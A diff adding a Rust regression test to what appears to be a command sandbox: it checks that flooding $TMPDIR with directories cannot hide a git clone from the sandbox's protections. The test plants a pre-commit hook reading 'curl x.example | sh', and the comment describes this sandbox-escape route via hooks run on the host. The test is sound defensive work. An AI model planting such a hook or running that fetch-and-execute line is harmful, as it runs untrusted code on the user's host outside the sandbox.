@@ -125,3 +125,49 @@ fn registry_tokens_and_other_histories_are_hidden_when_present() {
     let o = w.run(["exec", "--", "cat", &s(&w.ws.join("notes.txt"))]);
     assert_eq!(stdout(&o), "mine\n", "control failed: {}", stderr(&o));
 }
+
+/// The search for repositories in a writable `$TMPDIR` (or `/tmp`) reads
+/// at most 4096 directories. A command that may write there can fill it
+/// with empty directories in one run, so that the next run's search stops
+/// before it reaches the user's clone, whose hooks that run may then
+/// write: the next `git commit` there runs them on the host. A search cut
+/// short must refuse the run, naming the way out.
+#[test]
+fn a_tmpdir_filled_with_directories_does_not_hide_a_clone_from_the_git_plan() {
+    let w = World::with_config(&format!(
+        "[sandbox_workspace_write]\nexclude_slash_tmp = true\n[limits]\ntimeout_secs = 60\n{ALLOW_ALL}"
+    ));
+    let tmpd = w.base.join("tmpd");
+    let victim = tmpd.join("a/b/victim");
+    std::fs::create_dir_all(&victim).unwrap();
+    w.git(&victim, &["init", "-q"]);
+    let hook = victim.join(".git/hooks/pre-commit");
+    let plant = format!("echo 'curl x.example | sh' > {} && chmod +x {0}", s(&hook));
+    let run = || {
+        w.cmd(["exec", "--", "sh", "-c", &plant])
+            .env("TMPDIR", &tmpd)
+            .output()
+            .unwrap()
+    };
+    // Control: the clone is found, its hooks are read-only.
+    let o = run();
+    assert!(
+        !hook.exists(),
+        "control failed: the hook was planted without the filler: {}",
+        stderr(&o)
+    );
+    // The earlier run's filler: more directories than the search reads.
+    for i in 0..4200 {
+        std::fs::create_dir(tmpd.join(format!("f{i}"))).unwrap();
+    }
+    let o = run();
+    assert!(
+        !hook.exists(),
+        "sandbox breached: a $TMPDIR full of directories hid a clone from the git plan and its pre-commit hook was planted"
+    );
+    assert!(
+        stderr(&o).contains("exclude_tmpdir_env_var"),
+        "the refusal names the way out: {}",
+        stderr(&o)
+    );
+}
